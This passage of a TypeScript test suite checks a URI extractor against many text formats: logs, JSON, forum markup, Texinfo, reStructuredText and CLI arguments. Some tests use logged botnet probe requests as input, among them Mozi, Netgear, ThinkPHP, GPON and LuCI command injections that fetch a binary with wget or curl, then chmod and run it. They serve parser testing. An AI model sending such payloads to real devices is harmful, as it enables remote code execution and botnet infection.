        "postfix/cleanup[1]: 4F4D565C0C9: message-id=<20230101.abc@mail.example.com>\n" +
          "exim: <= a@b.example H=x id=CAF=abc123@mail.gmail.com\n" +
          "(scanned in 6/6 secs | Message-Id: etPan.09bd0c40.fdf7@server.local)\n" +
          "Managerius (Message-ID: <20010803034044.A11521@deadbeast.net>)\n",
      ),
    ).toEqual(["mailto:a@b.example"]);
  });

  test("fuzzy: syslog's facility.info is no link", () => {
    expect(
      fuzzy("<auth.info> sshd[1]: [ID 800047 auth.info] x; UDM daemon.info dnsmasq; local7.info"),
    ).toEqual([]);
    expect(fuzzy("mail.info.example.com and bob@mail.info")).toEqual([
      "http://mail.info.example.com",
      "mailto:bob@mail.info",
    ]);
  });

  test("fuzzy: a file's line number after a link's path is not the path's", () => {
    expect(
      fuzzy(
        "E1126 reflector.go:138] k8s.io/client-go/informers/factory.go:134: Failed\n" +
          "github.com/foo/bar/pkg/server.go:88 +0x1d, www.example.com:8080, example.com/a/v1.2:3\n",
      ),
    ).toEqual([
      "http://k8s.io/client-go/informers/factory.go",
      "http://github.com/foo/bar/pkg/server.go",
      "http://www.example.com:8080",
      "http://example.com/a/v1.2:3",
    ]);
  });

  test("a command's argument in a query ends at its encoded space or the shell's separator; a query pair's value at the next '&name=' (session 37)", () => {
    // the requests of botnets as every public web server logs them (Mozi, Netgear, ThinkPHP, GPON)
    const probes =
      '"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.14:8088/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1"\n' +
      '"GET /setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.12:40222/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/ HTTP/1.0"\n' +
      '"GET /index.php?vars[1][]=cd%20/tmp;wget%20http://192.0.2.11/bins/x86;chmod%20777%20x86;./x86%20thinkphp HTTP/1.1"\n' +
      "dest_host=`busybox+wget+http://192.0.2.7/gpon+-O+/tmp/gpon`;sh+/tmp/gpon\n" +
      "/x?c=curl+-s+https://a.example/x.sh|sh /y?d=wget+http://a.example/y&&sh+y\n";
    expect(uris(probes)).toEqual([
      "http://192.0.2.14:8088/Mozi.a",
      "http://192.0.2.12:40222/Mozi.m",
      "http://192.0.2.11/bins/x86",
      "http://192.0.2.7/gpon",
      "https://a.example/x.sh",
      "http://a.example/y",
    ]);
    expectRecordsAtEverySplit(probes);
    // form encoding splits a query on "&" (WHATWG URL §5.1): a URI that is a pair's value, and
    // holds no "?" of its own, ends before the next pair's "&name="
    const pairs =
      '"GET /oauth2/authorize?client_id=web&redirect_uri=https://app.example.com/callback&scope=openid%20profile&state=af0 HTTP/1.1"\n' +
      '"GET /wp-login.php?redirect_to=https://blog.example.com/wp-admin/&reauth=1 HTTP/1.1"\n' +
      '"GET /search?q=http://x.example/a&next=https://y.example/b HTTP/1.1"\n' +
      '"GET /r?url=https://x.example/?a=1&b=2 HTTP/1.1" /r?u=https://x.example/a&amp;b=1\n' +
      "see https://example.com/a&b=1 and https://example.com/x?u=https://y.example/p&q=2\n";
    expect(uris(pairs)).toEqual([
      "https://app.example.com/callback",
      "https://blog.example.com/wp-admin/",
      "http://x.example/a",
      "https://y.example/b",
      "https://x.example/?a=1&b=2",
      "https://x.example/a",
      "https://example.com/a&b=1",
      "https://example.com/x?u=https://y.example/p&q=2",
    ]);
    expectRecordsAtEverySplit(pairs);
  });

  test("rsyslog's escapes of control characters ('#011', '#012', '#015', '#033[…m') end the URI, or are dropped as a colour (session 37)", () => {
    const text =
      "Nov 28 15:35:45 vm app: GET#011https://api.example.com/v1/items?id=5#011200#01112ms\n" +
      "Nov  8 15:35:45 vm app: url=https://example.com/a?b=1#011status=200\n" +
      "2026-11-28T15:35:45.123+00:00 vm java: java.io.FileNotFoundException: https://repo.example.com/a.pom#012#011at java.base/x\n" +
      "Nov 28 15:35:45 vm app: Listening on http://0.0.0.0:8080#033[0m\n" +
      "Nov 28 15:35:45 vm uvicorn: Uvicorn running on #033[1mhttp://0.0.0.0:8000#033[0m (Press CTRL+C to quit)\n" +
      "Nov 28 15:35:45 vm vite:   #033[36mhttp://localhost:#033[1m5173#033[22m/#033[39m\n" +
      "agent: see https://learn.microsoft.com/x/event-4624#015\n" +
      // a fragment that only looks like one: not on a syslog line, not after another escape
      "see https://example.com/c#000 and https://example.com/d#011 or https://example.com/e#012x\n";
    expect(uris(text)).toEqual([
      "https://api.example.com/v1/items?id=5",
      "https://example.com/a?b=1",
      "https://repo.example.com/a.pom",
      "http://0.0.0.0:8080",
      "http://0.0.0.0:8000",
      "http://localhost:5173/",
      "https://learn.microsoft.com/x/event-4624",
      "https://example.com/c#000",
      "https://example.com/d#011",
      "https://example.com/e#012x",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("the review's (session 37): an escape after a dropped colour, a fragment's '#003366', a command's argument only in a query and never past maxLength, a pair at the input's end", () => {
    const text =
      "Nov 28 15:35:45 vm app: Tomcat started on http://localhost:8080/app#033[0m#015\n" +
      "Nov 28 15:35:45 vm dockerd: Local: #033[36mhttp://localhost:#033[1m5173#033[22m/#033[39m#015\n" +
      "Nov 28 15:35:45 vm a: url=http://0.0.0.0:8080#033[0m#011status=200\n" +
      "2024-01-02T03:04:05.123Z GET https://example.com/palette#003366 200\n" +
      "Follow us on Google+https://plus.google.com/+AcmeCorp/posts\n";
    expect(uris(text)).toEqual([
      "http://localhost:8080/app",
      "http://localhost:5173/",
      "http://0.0.0.0:8080",
      "https://example.com/palette#003366",
      "https://plus.google.com/+AcmeCorp/posts",
    ]);
    expectRecordsAtEverySplit(text);
    expect(uris("x /a?u=1&b=http://y.example/q&c=3")).toEqual(["http://y.example/q"]);
    // (the query's "=" before an earlier URI's end: logfmt's request_uri)
    expect(
      uris(
        "request_uri=http://h.example/luci/;stok=/locale?country=$(id>`wget+http://192.0.2.9/t+-O-|sh`)",
      ),
    ).toEqual(["http://h.example/luci/;stok=/locale?country=", "http://192.0.2.9/t"]);
    expect(uris(`/x?c=wget+http://x.example/${"a".repeat(9000)}`)).toEqual([]);
  });

  test("JSON inside JSON (Docker's json-file log of an app that logs JSON): an escaped escape after an escaped quote (session 37)", () => {
    const text =
      '{"log":"{\\"level\\":\\"error\\",\\"url\\":\\"http://127.0.0.1:1/api/v1/items?id=5\\\\u0026x=y\\"}\\n","stream":"stdout"}\n' +
      // one level: an escaped backslash before "u" and four hex digits is an escaped escape
      // too (session 40, the dumps hunt: JSON text written by a format that doubles
      // backslashes — PostgreSQL's COPY, mysqldump --tab); before anything else it ends the URI
      '{"msg":"see http://a.example/x\\\\u0026y"}\n' +
      '{"msg":"see http://a.example/z\\\\users"}\n';
    expect(text).toContain('id=5\\\\u0026x=y\\"');
    expect(uris(text)).toEqual([
      "http://127.0.0.1:1/api/v1/items?id=5&x=y",
      "http://a.example/x&y",
      "http://a.example/z",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("…anywhere inside the inner string, not only right after its quote; a regular expression's escaped '.' in a host in a JSON string (the config hunt, session 38)", () => {
    const text =
      '{"v1Compatibility":"{\\"config\\":{\\"Env\\":[\\"HTTPD_BZ2_URL=https://www.apache.org/dyn/closer.cgi?action=download\\\\u0026filename=httpd.tar.bz2\\"]}}"}\n' +
      '{"body":"{\\"note\\":\\"see https://x.example/a?b=1\\\\u0026c=2\\"}"}\n' +
      '{"pattern": "^https://developer\\\\.mozilla\\\\.org/docs/"}\n' +
      // a whole value between escaped quotes keeps its last character, as a quoted one does
      '{"body":"{\\"url\\":\\"https://x.example/faq.\\",\\"b\\":\\"https://x.example/l/bug%20:bug:\\"}"}\n' +
      // outside an escaped string an escaped escape is read (session 40), and the escaped
      // "." of a host in a pattern too
      '{"msg":"see http://a.example/x\\\\u0026y and https://b.example\\\\.x"}\n';
    expect(text).toContain("download\\\\u0026filename");
    expect(uris(text)).toEqual([
      "https://www.apache.org/dyn/closer.cgi?action=download&filename=httpd.tar.bz2",
      "https://x.example/a?b=1&c=2",
      "https://developer.mozilla.org/docs/",
      "https://x.example/faq.",
      "https://x.example/l/bug%20:bug:",
      "http://a.example/x&y",
      "https://b.example.x",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a hard wrap into an item of a list: a one-hyphen word and a ',' that ends its line is the next item (the config hunt, session 38)", () => {
    const text =
      "    relative-beyond-top-level,  # https://github.com/PyCQA/pylint/issues/2967\n    signature-differs,\n" +
      "The details of this change are described at https://github.com/a/b/issues/2967\n    signature-differs;\n" +
      // two hyphens, a slug's: a wrap
      "The details of this change are described at https://github.com/a/b/blob/main/how-to\n    work-around-it,\n";
    expect(uris(text)).toEqual([
      "https://github.com/PyCQA/pylint/issues/2967",
      "https://github.com/a/b/issues/2967",
      "https://github.com/a/b/blob/main/how-towork-around-it",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("Kafka's listener list: a name with '_' and '://' after a comma is the next listener (session 37)", () => {
    const text =
      "advertised.listeners = PLAINTEXT://kafka:9092,PLAINTEXT_HOST://localhost:29092\n" +
      "listeners = SASL_SSL://:9093,PLAINTEXT://b.example:9092\n";
    expect(uris(text)).toEqual(["PLAINTEXT://kafka:9092", "PLAINTEXT://b.example:9092"]);
    expectRecordsAtEverySplit(text);
  });

  test("words joined by + before http: a command line in a query, not a scheme", () => {
    expect(
      uris(
        "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/jaws;sh+/tmp/jaws HTTP/1.1\n" +
          "curl+-O+http://192.0.2.66/x.sh busybox+wget+https://a.example/bins/mirai.arm7\n",
      ),
    ).toEqual([
      "http://192.0.2.66/jaws",
      "http://192.0.2.66/x.sh",
      "https://a.example/bins/mirai.arm7",
    ]);
    // a version-control system's transport, database drivers and registered compounds stay
    expect(
      uris(
        "git+https://g.example/a svn+http://s.example/x HG+HTTPS://h.example/r " +
          "mongodb+srv://c.example/db postgresql+psycopg2://u@h/db coap+tcp://h.example/x",
      ),
    ).toEqual([
      "git+https://g.example/a",
      "svn+http://s.example/x",
      "HG+HTTPS://h.example/r",
      "mongodb+srv://c.example/db",
      "postgresql+psycopg2://u@h/db",
      "coap+tcp://h.example/x",
    ]);
  });
});

describe("session 17: forum markup and possessives", () => {
  test("a BBCode closing tag ends a bare URI; a bracket that is the URI's stays", () => {
    expect(
      uris(
        "[url]http://example.com/k[/url] [img]https://example.com/a.png[/IMG]\n" +
          "[url=http://example.com/j]x[/url] [quote]see http://example.com/q?a=1[/quote]\n" +
          "http://example.com/k[1] and http://[2001:db8::1]/x[/url]\n",
      ),
    ).toEqual([
      "http://example.com/k",
      "https://example.com/a.png",
      "http://example.com/j",
      "http://example.com/q?a=1",
      "http://example.com/k",
      "http://[2001:db8::1]/x",
    ]);
    expectRecordsAtEverySplit("[url]http://example.com/k[/url] x http://e.example/a[/b]c [/\n");
  });

  test("fuzzy: an address inside BBCode tags", () => {
    expect(
      uris("[email]kim@example.com[/email] [b]lee@example.org[/b] x[email]no@example.com", {
        fuzzy: true,
      }),
    ).toEqual(["mailto:kim@example.com", "mailto:lee@example.org"]);
    // the address as the tag's value
    expect(
      uris("[email=kim@example.com]Kim[/email] x[email=no@example.com]", { fuzzy: true }),
    ).toEqual(["mailto:kim@example.com"]);
  });

  test("an apostrophe after a mailto address's domain is the text's (RFC 1123: no DNS name has one)", () => {
    expect(
      uris(
        "mailto:kim@example.com's inbox, mailto:lee@example.org’s, mailto:o'brien@example.com " +
          "mailto:o’neil@example.com and mailto:a@example.com,b@example.org's",
      ),
    ).toEqual([
      "mailto:kim@example.com",
      "mailto:lee@example.org",
      "mailto:o'brien@example.com",
      "mailto:o’neil@example.com",
      "mailto:a@example.com,b@example.org",
    ]);
    expectRecordsAtEverySplit("mailto:kim@example.com’s x mailto:lee@example.org's\n");
  });

  test("review: the apostrophe ends the scan (the search goes on after it), its reference too", () => {
    expect(
      uris(
        "mailto:kim@example.com'mailto:lee@example.org x mailto:kim@example.com&#39;s x " +
          "mailto:a@example.com?subject=it's%20here",
      ),
    ).toEqual([
      "mailto:kim@example.com",
      "mailto:lee@example.org",
      "mailto:kim@example.com",
      "mailto:a@example.com?subject=it's%20here",
    ]);
    expectRecordsAtEverySplit(
      "mailto:a@b.example'mailto:c@d.example &#39; mailto:e@f.example&#39;s\n",
    );
  });

  test("review: only BBCode's own tags end a URI; other bracketed paths and queries stay", () => {
    expect(
      uris(
        "http://example.com/?path[/tmp]=x&y=1 http://example.com/a[/x]y " +
          "mailto:list@example.org?subject=[PATCH][/net] [b]http://example.com/b[/B]",
      ),
    ).toEqual([
      "http://example.com/?path[/tmp]=x&y=1",
      "http://example.com/a[/x]y",
      "mailto:list@example.org?subject=[PATCH][/net]",
      "http://example.com/b",
    ]);
    expectRecordsAtEverySplit("x http://e.example/a[/tmp]=1 y http://e.example/b[/noparse]\n");
  });
});

describe("found by session 17's hunt in markup formats", () => {
  test("POD's E<lt>…E<gt> around a URI or an address: the E is the markup's", () => {
    expect(
      uris("Copyright E<lt>http://search.cpan.org/dist/Foo/E<gt> x E<lt>mailto:a@cpan.orgE<gt>"),
    ).toEqual(["http://search.cpan.org/dist/Foo/", "mailto:a@cpan.org"]);
    expect(uris("Chad Granum E<lt>exodist@cpan.orgE<gt>, HELLO E<gt>", { fuzzy: true })).toEqual([
      "mailto:exodist@cpan.org",
    ]);
    // an "E" before another "<" stays
    expect(uris("http://x.example/FILE<b> http://x.example/E<lt>")).toEqual([
      "http://x.example/FILE",
      "http://x.example/E",
    ]);
    expectRecordsAtEverySplit("a E<lt>http://s.example/Foo/E<gt> b http://x.example/E<b>\n");
  });

  test("Texinfo's @uref{url,text}: the comma ends the URL", () => {
    expect(
      uris(
        "@uref{http://gmane.org/about.php,Gmane} @url{https://www.gnu.org/software/wget/, wget} " +
          "@uref{mailto:bug@gnu.org,bugs} {http://b.example/p,q} http://a.example/x,y",
      ),
    ).toEqual([
      "http://gmane.org/about.php",
      "https://www.gnu.org/software/wget/",
      "mailto:bug@gnu.org",
      "http://b.example/p,q",
      "http://a.example/x,y",
    ]);
    expectRecordsAtEverySplit("x @uref{http://g.example/a.php,G} y @url{http://h.example/,z}\n");
    // "@@" is Texinfo's "@" there (and only there)
    expect(
      uris("@uref{mailto:bug@@gnu.org} @url{ftp://u@@h.example/a@@b} mailto:a@@b.org"),
    ).toEqual(["mailto:bug@gnu.org", "ftp://u@h.example/a@b"]);
    expectRecordsAtEverySplit("@uref{mailto:bug@@gnu.org,bugs} @url{ftp://u@@h.example/a@@b}\n");
  });
});

describe("session 18: lists without spaces, sed delimiters, escaped slashes", () => {
  test("a comma glued to a labelled next URI in a path ends the URI (etcd, OpenSSL)", () => {
    expect(
      uris(
        "authorityInfoAccess = OCSP;URI:http://ocsp.example.com/,caIssuers;URI:http://example.com/ca.crt\n" +
          "crlDistributionPoints = URI:http://a.example/ca.crl,URI:http://b.example/ca.crl\n" +
          "SERVICES=api=http://a.example/v1,web=http://b.example/app\n",
      ),
    ).toEqual([
      "http://ocsp.example.com/",
      "http://example.com/ca.crt",
      "http://a.example/ca.crl",
      "http://b.example/ca.crl",
      "http://a.example/v1",
      "http://b.example/app",
    ]);
    // the list's earlier items in the last segment are its too (an AWS CLI step's Args)
    expect(
      uris(
        "Args=[-f,s3://b/libs/m.q,-d,INPUT=s3://b/tables,-d,LIBS=s3://b/libs] http://a/x,y,http://b/",
      ),
    ).toEqual(["s3://b/libs/m.q", "s3://b/tables", "s3://b/libs", "http://a/x", "http://b/"]);
    // a path's own commas stay, and so does a list in a query's value
    expect(
      uris("https://example.com/a,b,c/d https://a.example/?u=http://x/,web=http://y/ x"),
    ).toEqual(["https://example.com/a,b,c/d", "https://a.example/?u=http://x/,web=http://y/"]);
    // no label longer than 32 bytes, no "=" before the scheme: the path's
    expect(uris(`http://a.example/x,${"a".repeat(32)}=http://b.example/ y`)).toHaveLength(1);
    expect(uris("http://a.example/x,a+b=http://b.example/ y")).toEqual([
      "http://a.example/x,a+b=http://b.example/",
    ]);
    expectRecordsAtEverySplit(
      "x http://a.example/v1,web=http://b.example/,caIssuers;URI:ftp://c.example/ z\n",
    );
  });

  test("a Name= item's value ends at the comma before the next Name= (AWS CLI, gcloud, logs)", () => {
    // review 20a: the AWS CLI's shorthand syntax in awscli's examples, gcloud's flags
    expect(
      uris(
        "--provider-details MetadataURL=https://auth.example.com/sso/saml/metadata,RequestSigningAlgorithm=rsa-sha256\n" +
          "--steps Type=CUSTOM_JAR,Name=x,Jar=s3://bucket/mytest.jar,Args=arg1,arg2\n" +
          "--router-appliance=instance=https://www.googleapis.com/compute/v1/vm1,ip=10.10.0.1\n" +
          'msg="fetch" url=https://x.example/a,status=200\n' +
          "url=https://x.example/a,status --url=https://x.example/b,c=d",
      ),
    ).toEqual([
      "https://auth.example.com/sso/saml/metadata",
      "s3://bucket/mytest.jar",
      "https://www.googleapis.com/compute/v1/vm1",
      "https://x.example/a",
      "https://x.example/a,status",
      "https://x.example/b",
    ]);
    // no "Name=" before the scheme, an LDAP URL's distinguished name, a query's value, a
    // comma before no "Name=", a path segment that is itself a list of pairs (Jenkins' matrix
    // builds, image services' options): the URI's own
    expect(
      uris(
        "BUILD_URL=https://ci.example/job/p/jdk=11,label=linux/42/ " +
          "x=https://img.example/cdn-cgi/image/width=80,quality=75/a.jpg url=ldapi://h/CN=x,O=y",
      ),
    ).toEqual([
      "https://ci.example/job/p/jdk=11,label=linux/42/",
      "https://img.example/cdn-cgi/image/width=80,quality=75/a.jpg",
      "ldapi://h/CN=x,O=y",
    ]);
    expect(
      uris(
        "see https://x.example/a,b=c url=ldap://h.example/CN=x,O=y,C=DE " +
          "url=https://x.example/a?b=1,c=2 u=https://x.example/a,b,9=c a+b=https://x.example/d,e=f",
      ),
    ).toEqual([
      "https://x.example/a,b=c",
      "ldap://h.example/CN=x,O=y,C=DE",
      "https://x.example/a?b=1,c=2",
      "https://x.example/a,b,9=c",
      "https://x.example/d,e=f",
    ]);
    expectRecordsAtEverySplit("Jar=s3://bucket/a.jar,Args=x url=https://x.example/a,status=2\n");
  });

  test("quoted, a list of URIs written without spaces is read as the bare rules read it", () => {
    expect(
      uris(`gsutil cp "gs://bucket-a/x,gs://bucket-b/y" 'http://a.example/x,http://b.example/y'`),
    ).toEqual(["gs://bucket-a/x", "gs://bucket-b/y", "http://a.example/x", "http://b.example/y"]);
    // an item past maxLength does not hide the next one
    expect(
      uris(
        `a=http://x/${"p".repeat(80)},b=http://y/ s@http://${"p".repeat(80)}@http://z.example@g`,
        {
          maxLength: 64,
        },
      ),
    ).toEqual(["http://y/", "http://z.example"]);
    // in any authority too (no DNS name: gcloud's bucket lists)
    expect(uris(`--buckets="gs://bucket1,gs://bucket2,gs://bucket3" mongodb://h1,h2/db`)).toEqual([
      "gs://bucket1",
      "gs://bucket2",
      "gs://bucket3",
      "mongodb://h1,h2/db",
    ]);
    expect(uris(`"gs://b1,gs://b2" 's3://a,s3://b/x' "mongodb://h1,h2/db"`)).toEqual([
      "gs://b1",
      "gs://b2",
      "s3://a",
      "s3://b/x",
      "mongodb://h1,h2/db",
    ]);
    // a query's value may hold a list; a quoted URI's own commas stay
    expect(uris(`"https://a.example/?u=http://x/,http://y/" "http://a.example/a,b"`)).toEqual([
      "https://a.example/?u=http://x/,http://y/",
      "http://a.example/a,b",
    ]);
    expectRecordsAtEverySplit(`a "gs://b/x,gs://c/y" "http://a.example/a,b" z\n`);
  });

  test('"@" before "scheme://" is a delimiter (sed), not a userinfo\'s end nor a path\'s', () => {
    expect(
      uris("RUN sed -i 's@http://deb.debian.org@http://mirror.example.org/debian@' /etc/apt/x"),
    ).toEqual(["http://deb.debian.org", "http://mirror.example.org/debian"]);
    // the "@" that opened a URI closes it; "@scheme://" in a path is a delimiter too
    expect(
      uris(
        "sed -i 's@http://archive.ubuntu.com@http://mirror.example.com@g' x " +
          "s@http://a.example/ubuntu/@http://m.example/ubuntu/@g a@http://u@x.example/",
      ),
    ).toEqual([
      "http://archive.ubuntu.com",
      "http://mirror.example.com",
      "http://a.example/ubuntu/",
      "http://m.example/ubuntu/",
      "http://u@x.example/",
    ]);
    // a userinfo stays, and so does a path's "@" and a URI in the query
    expect(
      uris("http://user@example.com/ ftp://a:b@c.example/x@y http://h.example/?u=a@http://z/"),
    ).toEqual([
      "http://user@example.com/",
      "ftp://a:b@c.example/x@y",
      "http://h.example/?u=a@http://z/",
    ]);
    expectRecordsAtEverySplit("s@http://a.example@https://b.example/x@g ftp://u@c.example/\n");
  });

  test('a URI whose every "/" is written "\\u002F" (serialize-javascript) is read as JSON\'s "\\/"', () => {
    const json = String.raw`"https:\/\/example.com:8080\/a,b\/c?x=1#f"`;
    const u = String.raw`"https:\u002F\u002Fexample.com:8080\u002Fa,b\u002fc?x=1#f"`;
    expect(uris(u)).toEqual(uris(json));
    expect(uris(u)).toEqual(["https://example.com:8080/a,b/c?x=1#f"]);
    // the host's rules: an apostrophe ends it
    expect(
      uris(String.raw`x https:\u002F\u002Fuser@example.com's https:\u002F\u002Fa.example\u002F'b`),
    ).toEqual(["https://user@example.com", "https://a.example/'b"]);
    // mixed with a raw "/" it is no such text: as "https:\//aa.org", nothing; after a raw
    // "//" the escaped "/" ends the URI, as before
    expect(uris(String.raw`https:\u002F\u002Fexample.com/path http://a.example\u002f-`)).toEqual([
      "http://a.example",
    ]);
    expectRecordsAtEverySplit(`a "https:\\u002F\\u002Fexample.com\\u002Fp\\u002Fq" z\n`);
    // the list, bracket and host-comma rules read it as they read "\/"
    for (const t of [
      "https://a.example/x[https://b.example/y",
      "https://a.example/p,q,https://b.example/y",
      "a=https://a.example/x,b=https://b.example/y",
      "https://a.example,b.example/x@y",
      "https://a.example/x,y/p,http://b.example/",
    ]) {
      const json = t.replaceAll("/", "\\/");
      const u = t.replaceAll("/", "\\u002F");
      expect(uris(u), u).toEqual(uris(json));
      expect(uris(u).length, u).toBeGreaterThan(0);
    }
  });

  test("fuzzy: a JSON string's escape before a name is no part of it", () => {
    const f = { fuzzy: true };
    expect(
      uris(
        String.raw`{"msg":"see\nwww.example.com\tand\u0022www.example.org\u0022 or \u003cexample.net\u003e","to":"\u003ckim@example.com\u003e"}`,
        f,
      ),
    ).toEqual([
      "http://www.example.com",
      "http://www.example.org",
      "http://example.net",
      "mailto:kim@example.com",
    ]);
    // an escaped "/" or letter glues the name to the text before it; "\\n" is a backslash
    // and "n"; a Windows path's "\n" is a folder's initial
    expect(uris(String.raw`x\u002Fcal.example.com a\u0041www.example.com`, f)).toEqual([]);
    expect(uris(String.raw`a\\nwww.example.com C:\temp\new.example.com`, f)).toEqual([
      "http://nwww.example.com",
      "http://new.example.com",
    ]);
    // so is a UNC or relative path's; an IRI name's escaped letter glues it too
    expect(
      uris(
        String.raw`\\fs\new.example.com\b ..\tools\research.example.org\x caf\u00e9.example.fr`,
        f,
      ),
    ).toEqual(["http://new.example.com", "http://research.example.org"]);
    const text = `{"m":"a\\nwww.example.com\\u0022 b\\u002Fc.example.com"}\n`;
    const whole = uris(text, f);
    expect(whole).toEqual(["http://www.example.com"]);
    const bytes = Buffer.from(text);
    for (let cut = 1; cut < bytes.length; cut++) {
      const got: string[] = [];
      const sc = new TextScanner(f, (x) => got.push(x.uri));
      sc.push(bytes.subarray(0, cut));
      sc.push(bytes.subarray(cut));
      sc.end();
      expect(got, `cut ${cut}`).toEqual(whole);
    }
  });
});

describe("reStructuredText hyperlink targets broken across lines (docutils)", () => {
  test("a target's indented lines are joined, whitespace removed", () => {
    const text =
      ".. _starts-on-this-line: http://\n                         structuredtext.\n" +
      "                         sourceforge.net\n\n.. _entirely-below:\n   http://a.example/\r\n" +
      "   long/path.html\n\n  .. __: http://w3c.org/\n     TR/\n__ https://b.example/x/\n   y\nz\n";
    const found = extractText(text);
    expect(found.map((f) => f.uri)).toEqual([
      "http://structuredtext.sourceforge.net",
      "http://a.example/long/path.html",
      "http://w3c.org/TR/",
      "https://b.example/x/y",
    ]);
    for (const f of found) expect(f.wrapped).toBe(true);
    expectRecordsAtEverySplit(text);
  });

  test("only a target's block: not prose, a directive, or a line indented no deeper", () => {
    expect(
      uris(
        "See http://a.example/x\n   indented\n.. image:: http://b.example/i.png\n   :alt: x\n" +
          "  .. _t: http://c.example/y\n  same indent\n.. _u: http://d.example/z\n\n   after a blank\n" +
          ".. _v:\nhttp://e.example/w\n   not under the target\n",
      ),
    ).toEqual([
      "http://a.example/x",
      "http://b.example/i.png",
      "http://c.example/y",
      "http://d.example/z",
      "http://e.example/w",
    ]);
    expectRecordsAtEverySplit(
      ".. _v:\nhttp://e.example/w\n   x\n  .. _t: http://c.example/y\n  z\n",
    );
    // nor a next line that starts another URI or a list item
    expect(
      uris(
        ".. _x: http://a.example/a\n   http://b.example/\n.. _y: http://c.example/c\n   - item\n",
      ),
    ).toEqual(["http://a.example/a", "http://b.example/", "http://c.example/c"]);
  });

  test("an image's or figure's URI and its target option are joined the same way (rST Directives, Image)", () => {
    // (a probe of 8,674 .rst files with docutils: two in docutils' own test data)
    const text =
      ".. image:: http://o.example/ch14/\n   clock.svg\n\n.. figure:: pic.png\n" +
      "   :target: http://o.example/ch14/\n            clock.html\n\n   Caption\n" +
      ".. figure::\n   http://o.example/ch15/\n   clock.svg\n   :alt: a clock\n" +
      // an option line after the URI is the directive's; a note's text is not a URI's rest
      ".. image:: http://o.example/a.png\n   :alt: foo\n.. note:: http://o.example/b/\n   text\n" +
      // ":target:" outside an image's or figure's options is a field list's (review)
      ":target: http://o.example/c\n   continuation\n.. note::\n   :target: http://o.example/d\n      text\n";
    expect(uris(text)).toEqual([
      "http://o.example/ch14/clock.svg",
      "http://o.example/ch14/clock.html",
      "http://o.example/ch15/clock.svg",
      "http://o.example/a.png",
      "http://o.example/b/",
      "http://o.example/c",
      "http://o.example/d",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a target's '_' is no emphasis: a URI ending in '_' keeps it", () => {
    expect(uris(".. _x: http://o.example/q_\n_see http://a.example/b_")).toEqual([
      "http://o.example/q_",
      "http://a.example/b",
    ]);
  });
});

describe("fuzzy: file names with a country-code TLD's extension (fuzzy-file-names.ts)", () => {
  test("a source, build or project file's name is no link", () => {
    expect(
      uris(
        "run setup.py, see README.md and CONTRIBUTING.md; Makefile.in configure.ac Makefile.am " +
          "autogen.sh MyModule.pm libXcursor.so main.rs",
        { fuzzy: true },
      ),
    ).toEqual([]);
    // Python and Perl modules, shared libraries, Perl's build files, autoconf's templates
    // (review 20a: 1,770 such links in /usr/lib/python3, /usr/share/perl and /usr/bin)
    expect(
      uris(
        "perl Makefile.PL && perl Build.PL; Makefile.SH gencodec.py python-config.py " +
          "warnings.pm libpython3.so pyconfig.h.in Makefile.pre.in config.h.in/x",
        { fuzzy: true },
      ),
    ).toEqual([]);
  });

  test("hosts of those TLDs stay links, and so does a name with more labels or a path", () => {
    expect(
      uris("see docs.rs, notion.so, bun.sh, Amazon.in, www.setup.py, notes.pl and x.setup.py", {
        fuzzy: true,
      }),
    ).toEqual([
      "http://docs.rs",
      "http://notion.so",
      "http://bun.sh",
      "http://Amazon.in",
      "http://www.setup.py",
      "http://notes.pl",
      "http://x.setup.py",
    ]);
    // a real site's name and a brand's writing stay; a file's name before a fragment does not
    expect(
      uris("lib.rs readme.so OLX.pl eBay.in NDTV.in MANIFEST.in [g](CONTRIBUTING.md#setup)", {
        fuzzy: true,
      }),
    ).toEqual([
      "http://lib.rs",
      "http://readme.so",
      "http://OLX.pl",
      "http://eBay.in",
      "http://NDTV.in",
    ]);
    // by where they stand: a GNU ChangeLog entry's files, a diffstat, an info node header;
    // configure's templates of more extensions, "ld.so", initials (review 20b: ~17,000 such
    // links in /usr/share/doc and /usr/share/info)
    expect(
      uris(
        "\t* ltmain.sh: Mark as gcc-local.\n\t* config-ml.in (multi-do): Add @.\n" +
          "\t* a.in, cfg.mk, docs/pt.cc:\n fonts.conf.in |  7 ++++++-\n x.sh | Bin 0 -> 1 bytes\n" +
          "File: coreutils.info,  Node: Top\nThis is gettext.info, produced by makeinfo\n" +
          "reported by H.J.Lu. also fontconfig.pc.in strace.1.in Makefile.in.in ld.so",
        { fuzzy: true },
      ),
    ).toEqual([]);
    expect(
      uris(
        "* example.com: a site; example.co.in, H.Lu, A.B.com, x.sh | y, see google.info\n" +
          "| bun.sh | 42 |\nexample.io, produced by Acme\n\t* See notion.so (the site)\n" +
          "Amazon.IN docs.RS allegro.PL",
        { fuzzy: true },
      ),
    ).toEqual([
      "http://example.com",
      "http://example.co.in",
      "http://H.Lu",
      "http://A.B.com",
      "http://x.sh",
      "http://google.info",
      "http://bun.sh",
      "http://example.io",
      "http://notion.so",
      "http://Amazon.IN",
      "http://docs.RS",
      "http://allegro.PL",
    ]);
    // capitals throughout, a bare "h.in", more labels, "lib" alone: hosts
    expect(uris("OLX.PL h.in x.h.in.com lib.so www.h.in", { fuzzy: true })).toEqual([
      "http://OLX.PL",
      "http://h.in",
      "http://x.h.in.com",
      "http://lib.so",
      "http://www.h.in",
    ]);
  });
});

describe("Markdown emphasis with * opened on an earlier line of the paragraph", () => {
  test("a closing ** or * after the URI is the emphasis's (CommonMark §6.2)", () => {
    expect(
      uris(
        "some **bold text that wraps\nacross http://x.example/a** lines\n\n*see\nhttp://x.example/b* c",
      ),
    ).toEqual(["http://x.example/a", "http://x.example/b"]);
    // not across a blank line, nor after a closed pair
    expect(
      uris("**a\n\nsee http://x.example/a** b\n**Note** the\nsite http://x.example/b**\n"),
    ).toEqual(["http://x.example/a**", "http://x.example/b**"]);
    expectRecordsAtEverySplit("x **bold\ntext http://x.example/a** y *it\nhttp://x.example/b*\n");
  });
});

describe("fuzzy: a scheme written with character references before a link", () => {
